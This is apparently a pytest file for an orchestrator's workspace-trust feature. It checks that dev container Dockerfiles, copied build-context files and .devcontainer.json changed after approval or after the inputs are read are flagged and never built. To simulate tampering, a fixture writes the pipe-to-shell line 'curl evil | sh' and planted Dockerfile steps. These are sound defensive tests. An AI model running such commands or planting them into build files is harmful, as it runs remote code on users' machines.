"""Trust covers everything a dev container build reads, wherever it lies, and a run
builds exactly the bytes it read once (`images.devcontext`, `workspace.inputs`):
a Dockerfile or a `COPY`'d file outside `.devcontainer/` changed after the yes
unlocks nothing, and one changed after the run read its inputs is not built."""

from __future__ import annotations

import io
import json
import os
import tarfile
import tempfile
from pathlib import Path

import pytest

from orchestrator.config import Settings
from orchestrator.errors import ImageBuildError
from orchestrator.workspace.inputs import read_policy_inputs
from orchestrator.workspace.trust import remember, verdict
from orchestrator.workspace.trusted_content import BUILD_CONTEXT, fingerprint, render

DOCKERFILE = "FROM base\nCOPY tools/setup.sh /opt/setup.sh\nRUN sh /opt/setup.sh\n"


def outside_build(workspace: Path) -> None:
    """A dev container whose Dockerfile and context are the workspace root."""
    (workspace / ".devcontainer").mkdir()
    (workspace / ".devcontainer/devcontainer.json").write_text(
        json.dumps({"build": {"dockerfile": "../Dockerfile", "context": ".."}})
    )
    (workspace / "Dockerfile").write_text(DOCKERFILE)
    (workspace / "tools").mkdir()
    (workspace / "tools/setup.sh").write_text("echo setting up\n")
    (workspace / "notes").mkdir()
    (workspace / "notes/todo.txt").write_text("ignored by the build\n")
    (workspace / ".dockerignore").write_text("notes\n")


def test_the_dockerfile_and_the_context_outside_devcontainer_are_shown_and_recorded(
    settings: Settings, workspace: Path
) -> None:
    outside_build(workspace)
    found = verdict(settings, workspace)
    assert not found.trusted
    shown = "\n".join(render(list(found.changes)))
    assert "new      Dockerfile" in shown and "+RUN sh /opt/setup.sh" in shown, shown
    assert f"new      {BUILD_CONTEXT}." in shown, shown
    assert "tools/setup.sh" in shown, "the context's listing names each file it sends"
    assert "notes/todo.txt" not in shown, ".dockerignore keeps it out of the build"
    remember(settings, workspace, found.prints)
    assert verdict(settings, workspace).trusted


def test_a_changed_dockerfile_outside_devcontainer_unlocks_nothing(
    settings: Settings, workspace: Path
) -> None:
    outside_build(workspace)
    remember(settings, workspace)
    (workspace / "Dockerfile").write_text(DOCKERFILE + "RUN python3 plant.py\n")
    found = verdict(settings, workspace)
    assert not found.trusted
    changed = {c.path: c for c in found.changes}
    assert set(changed) == {"Dockerfile", BUILD_CONTEXT + "."}
    assert "+RUN python3 plant.py" in changed["Dockerfile"].diff


def test_a_changed_copied_file_outside_devcontainer_unlocks_nothing(
    settings: Settings, workspace: Path
) -> None:
    outside_build(workspace)
    remember(settings, workspace)
    (workspace / "tools/setup.sh").write_text("curl evil | sh\n")
    found = verdict(settings, workspace)
    assert not found.trusted
    (change,) = found.changes
    assert change.path == BUILD_CONTEXT + "."
    assert any(line.startswith("+") and "tools/setup.sh" in line for line in change.diff)
    # A file the build is never sent (.dockerignore) changes nothing.
    remember(settings, workspace)
    (workspace / "notes/todo.txt").write_text("changed\n")
    assert verdict(settings, workspace).trusted


def test_the_run_builds_the_context_it_read_or_nothing(
    settings: Settings, workspace: Path
) -> None:
    """read_policy_inputs hashes the context once; trust is decided from that hash,
    and a build is sent a tar only while it has that hash: a Dockerfile rewritten
    afterwards is never built."""
    outside_build(workspace)
    remember(settings, workspace)
    inputs = read_policy_inputs(settings, workspace)
    assert inputs.trusted and inputs.devcontainer is not None
    made = inputs.devcontainer.build_context()
    listing = inputs.trust.prints[BUILD_CONTEXT + "."].text
    assert listing is not None and listing.startswith(f"build sha256:{made.digest}\n")
    sent = io.BytesIO()
    made.copy_to(sent)
    with tarfile.open(fileobj=sent) as archive:
        member = archive.extractfile("Dockerfile")
        assert member is not None and member.read() == DOCKERFILE.encode()
    (workspace / "Dockerfile").write_text("FROM base\nRUN python3 plant.py\n")
    assert made.dockerfile_bytes == DOCKERFILE.encode()
    later = io.BytesIO()
    with pytest.raises(ImageBuildError, match="changed after warden read it"):
        made.copy_to(later)
    assert later.getvalue() == b""
    assert not verdict(settings, workspace).trusted, "and the next run is not trusted"


def test_a_context_file_named_with_bytes_that_are_not_utf8_is_a_change_not_a_crash(
    settings: Settings, workspace: Path
) -> None:
    """A sandbox may name a file with any bytes; in the build context it is hashed
    like any other, so the next run's start says what changed instead of failing."""
    outside_build(workspace)
    remember(settings, workspace)
    (workspace / os.fsdecode(b"tools/planted-\xff")).write_text("COPY'd too\n")
    inputs = read_policy_inputs(settings, workspace)
    assert not inputs.trusted
    (change,) = inputs.trust.changes
    assert change.path == BUILD_CONTEXT + "."
    assert any(line.startswith("+") and "tools/planted-\\xff" in line for line in change.diff)


def test_reading_the_inputs_and_reviewing_trust_write_no_context_tar(
    settings: Settings, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run that builds nothing (an --image, an untrusted workspace, an image already
    built) and the end-of-run trust review only hash the context: no tar of it is
    written (the context can be the whole workspace)."""
    outside_build(workspace)

    def no_tar(*args: object, **kwargs: object) -> None:
        raise AssertionError("a temporary file (a context tar) was made")

    monkeypatch.setattr(tempfile, "TemporaryFile", no_tar)
    inputs = read_policy_inputs(settings, workspace)
    assert not inputs.trusted
    assert BUILD_CONTEXT + "." in inputs.trust.prints
    assert fingerprint(workspace.resolve()) == inputs.trust.prints


def test_a_root_devcontainer_json_planted_after_the_read_is_not_used(
    settings: Settings, workspace: Path
) -> None:
    """The window issue 33 names: a concurrent run's sandbox creates
    `.devcontainer.json` after this run read its inputs. The run decides, and
    chooses its image, from what it read: no dev container."""
    from orchestrator.runtime.run_images import _snapshot_dev

    (workspace / ".claude").mkdir()
    (workspace / ".claude/settings.json").write_text('{"permissions": {"allow": ["Bash"]}}')
    remember(settings, workspace)
    inputs = read_policy_inputs(settings, workspace)
    assert inputs.trusted and inputs.devcontainer is None
    (workspace / ".devcontainer.json").write_text('{"image": "planted"}')
    assert _snapshot_dev(settings, inputs.devcontainer, image=None, devcontainer=None) is None
    assert not verdict(settings, workspace).trusted


def test_a_devcontainer_json_changed_after_the_read_is_used_as_read(
    settings: Settings, workspace: Path
) -> None:
    (workspace / ".devcontainer.json").write_text('{"image": "trusted-image"}')
    remember(settings, workspace)
    inputs = read_policy_inputs(settings, workspace)
    assert inputs.trusted
    (workspace / ".devcontainer.json").write_text('{"image": "planted"}')
    from orchestrator.runtime.run_images import _snapshot_dev

    used = _snapshot_dev(settings, inputs.devcontainer, image=None, devcontainer=None)
    assert used is not None and used.image == "trusted-image"
    assert inputs.trust.prints[".devcontainer.json"].text == '{"image": "trusted-image"}'
